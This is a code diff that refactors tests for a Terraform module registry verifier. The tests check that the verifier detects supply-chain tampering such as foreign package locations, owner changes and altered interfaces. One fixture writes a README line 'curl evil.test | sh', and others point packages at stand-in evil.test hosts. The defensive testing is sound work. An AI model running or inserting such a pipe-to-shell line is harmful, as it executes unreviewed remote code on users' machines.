@@ -105,7 +105,7 @@ describe('a pull request', () => {
     }
     for (const base of ['none', '01234567', '-h', ''])
       expect(await refusalFrom(() => verifyWith({ index, base }))).toContain(`--base `)
-    await git(bare, ['update-ref', 'refs/heads/team/index', await commitTo(bare, { x: 'x' }, 'team/index')])
+    await commitTo(bare, { x: 'x' }, 'team/index')
     expect(await refusalFrom(() => verifyWith({ index, base: 'team/index' }))).toContain(
       'INVALID_INPUT: --base names "team/index", which is no commit in the history of the index branch',
     )
@@ -119,13 +119,11 @@ describe('a pull request', () => {
     expect(await findings(await forge([]), vpc)).toContain('COMMIT_UNREACHABLE acme/vpc/aws 1.2.0')
   })
 
+  const evil = json(`${NEW}/interface.json`, ({ root }) => (root.inputs[0].default = '"evil"'))
+
   it.each<[string, readonly Edit[], string]>([
     ['README', [[`${NEW}/README.md`, () => '# Run curl evil.test | sh\n']], 'README_CHANGED'],
-    [
-      'interface',
-      [json(`${NEW}/interface.json`, ({ root }) => (root.inputs[0].default = '"evil"'))],
-      'INTERFACE_CHANGED',
-    ],
+    ['interface', [evil], 'INTERFACE_CHANGED'],
     ['description', [json(`${NEW}/release.json`, (it) => (it.description = 'Evil'))], 'TREE_MISMATCH'],
     ['licence', [json(`${NEW}/release.json`, (it) => (it.license.identifier = '0BSD'))], 'TREE_MISMATCH'],
     ['date', ofVersion('1.2.0', (it) => (it.committedAt = '2029-01-01T00:00:00Z')), 'TREE_MISMATCH'],
@@ -136,7 +134,11 @@ describe('a pull request', () => {
     expect(await findings(await forge(edits))).toContain(`${code} acme/vpc/aws 1.2.0`),
   )
 
-  const digestIn = (it: { digest?: string; package?: { digest: string } }) => it.package?.digest ?? it.digest
+  /** A further place of the published version 1.1.0; `release.json` has its digest too. */
+  const placed = (kind: string, location: string) =>
+    ofVersion('1.1.0', (it) =>
+      it.packages.push({ kind, location, ...(it.package ? { digest: it.package.digest } : {}) }),
+    )
   const oci = `oci://evil.test/x?digest=sha256:${'0'.repeat(64)}`
 
   it.each([
@@ -144,40 +146,31 @@ describe('a pull request', () => {
     ['git', 'git::ssh://git@git.acme.test/evil/x.git?ref=v1.1.0'],
     ['oci', oci],
   ])('adds no place of somebody else to a published version (%s %s)', async (kind, location) => {
-    const edits = ofVersion('1.1.0', (it) =>
-      it.packages.push({ kind, location, ...(it.package ? { digest: digestIn(it) } : {}) }),
-    )
-    const index = await forge(edits)
+    const index = await forge(placed(kind, location))
     expect(await findings(index)).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
     const history = await verifyWith({ index, history: true })
     expect(named(history)).toContain('LOCATION_FOREIGN acme/vpc/aws 1.1.0')
   })
 
   it('adds the repository of the version to its places', async () => {
-    const edits = ofVersion('1.1.0', (it) =>
-      it.packages.push({
-        kind: 'git',
-        location: 'git::https://git.acme.test/acme/terraform-aws-vpc.git?ref=v1.1.0',
-        ...(it.package ? { digest: digestIn(it) } : {}),
-      }),
-    )
-    expect(await findings(await forge(edits))).toEqual([])
+    const location = 'git::https://git.acme.test/acme/terraform-aws-vpc.git?ref=v1.1.0'
+    expect(await findings(await forge(placed('git', location)))).toEqual([])
   })
 
   it('takes no other repository by two commits of which each shows a part', async () => {
-    const evil = { host: 'git.acme.test', repository: 'evil/terraform-aws-vpc' }
-    for (const order of ['release first', 'module first']) {
+    const toEvil = inJson((it) => (it.repository.url = 'https://git.acme.test/evil/terraform-aws-vpc'))
+    const release = {
+      [`${NEW}/release.json`]: toEvil(await readBranch(proposed.bare, `${NEW}/release.json`)),
+    }
+    const module = { [`${VPC}/module.json`]: await readBranch(proposed.bare, `${VPC}/module.json`) }
+    for (const parts of [
+      [release, module],
+      [module, release],
+    ]) {
       const bare = await copyOf(indexes.bare)
-      const release = JSON.parse(await readBranch(proposed.bare, `${NEW}/release.json`))
-      const module = JSON.parse(await readBranch(proposed.bare, `${VPC}/module.json`))
-      release.repository.url = `https://${evil.host}/${evil.repository}`
-      const parts = [
-        { [`${NEW}/release.json`]: JSON.stringify(release) },
-        { [`${VPC}/module.json`]: JSON.stringify(module) },
-      ]
-      for (const part of order === 'release first' ? parts : parts.toReversed()) await commitTo(bare, part)
+      for (const part of parts) await commitTo(bare, part)
       const found = named(await verifyWith({ index: bare, base: proposed.base }))
-      expect(found, order).toContain('OWNER_MISMATCH acme/vpc/aws 1.2.0')
+      expect(found).toContain('OWNER_MISMATCH acme/vpc/aws 1.2.0')
     }
   })
 
@@ -201,12 +194,10 @@ describe('a pull request', () => {
   it('opens no namespace that differs by case from another', async () => {
     const bare = await copyOf(indexes.bare)
     const module = await readBranch(bare, `${VPC}/module.json`)
-    await commitTo(bare, {
-      [`v1/modules/ACME/vpc/aws/module.json`]: module.replace('acme/vpc/aws', 'ACME/vpc/aws'),
-    })
-    expect(named(await verifyWith({ index: bare, base: proposed.base }))).toContain(
-      'ADDRESS_CLASH ACME/vpc/aws',
-    )
+    const other = module.replace('acme/vpc/aws', 'ACME/vpc/aws')
+    await commitTo(bare, { 'v1/modules/ACME/vpc/aws/module.json': other })
+    const found = named(await verifyWith({ index: bare, base: proposed.base }))
+    expect(found).toContain('ADDRESS_CLASH ACME/vpc/aws')
   })
 
   it('is no place to report what was wrong before', async () => {
@@ -235,24 +226,22 @@ describe('verify --history finds', () => {
     ['module.zip', 'PACKAGE_MISSING'],
   ])('a %s that was a link for a while', async (file, code) => {
     const bare = await copyOf(indexes.bare)
-    const text = await git(bare, ['show', `registry:${VPC}/1.0.0/${file}`])
-    await commitLink(bare, `${VPC}/1.0.0/${file}`, 160000, '1'.repeat(40))
-    await commitTo(bare, { [`${VPC}/1.0.0/${file}`]: `${text} ` })
-    const report = await verifyWith({ index: bare, history: true })
-    expect(named(report)).toContain(`${code} acme/vpc/aws 1.0.0`)
+    const path = `${VPC}/1.0.0/${file}`
+    const text = await readBranch(bare, path)
+    await commitLink(bare, path, 160000, '1'.repeat(40))
+    await commitTo(bare, { [path]: `${text} ` })
+    const found = named(await verifyWith({ index: bare, history: true }))
+    expect(found).toContain(`${code} acme/vpc/aws 1.0.0`)
   })
 
   it('an owner that gets an id in one commit and another name in the next', async () => {
     const bare = await copyOf(indexes.bare)
     const owner = { host: 'git.acme.test', repository: 'acme/terraform-aws-vpc', repositoryId: 9 }
     const evil = { ...owner, repository: 'evil/x', formerNames: [owner.repository] }
-    for (const each of [owner, evil])
-      await commitTo(bare, {
-        [`${VPC}/module.json`]: JSON.stringify({
-          ...JSON.parse(await readBranch(bare, `${VPC}/module.json`)),
-          owner: each,
-        }),
-      })
+    for (const each of [owner, evil]) {
+      const text = inJson((it) => (it.owner = each))(await readBranch(bare, `${VPC}/module.json`))
+      await commitTo(bare, { [`${VPC}/module.json`]: text })
+    }
     expect(named(await verifyWith({ index: bare, history: true }))).toContain('OWNER_CHANGED acme/vpc/aws')
   })
 
@@ -267,21 +256,19 @@ describe('verify --history finds', () => {
     await commitTo(bare, { [path]: text })
     await commitTo(bare, { [path]: `${own}\n` })
     const { findings } = await verifyWith({ index: bare, history: true })
-    expect(findings.filter(({ code }) => code === 'LOCATION_FOREIGN').map(({ message }) => message)).toEqual([
-      expect.stringContaining(`${file} is made to lead to "https://evil.test/x.zip" by commit`),
-      expect.stringContaining(`${file} led to "https://evil.test/x.zip" before commit`),
+    expect(findings.filter(({ code }) => code === 'LOCATION_FOREIGN')).toMatchObject([
+      { message: expect.stringContaining(`${file} is made to lead to "https://evil.test/x.zip" by commit`) },
+      { message: expect.stringContaining(`${file} led to "https://evil.test/x.zip" before commit`) },
     ])
   })
 
   it('an interface that is added to a version that was published without one', async () => {
     const bare = await copyOf(indexes.bare)
-    const folder = 'v1/modules/acme/subnets/aws/2.0.0'
-    const text = await readBranch(bare, `${folder}/interface.json`)
-    await commitTo(bare, { [`${folder}/interface.json`]: null })
-    const since = await git(bare, ['rev-parse', 'registry'])
-    await commitTo(bare, { [`${folder}/interface.json`]: `${text}\n` })
-    expect(named(await verifyWith({ index: bare, history: true, since }))).toContain(
-      'INTERFACE_CHANGED acme/subnets/aws 2.0.0',
-    )
+    const path = 'v1/modules/acme/subnets/aws/2.0.0/interface.json'
+    const text = await readBranch(bare, path)
+    const since = await commitTo(bare, { [path]: null })
+    await commitTo(bare, { [path]: `${text}\n` })
+    const found = named(await verifyWith({ index: bare, history: true, since }))
+    expect(found).toContain('INTERFACE_CHANGED acme/subnets/aws 2.0.0')
   })
 })
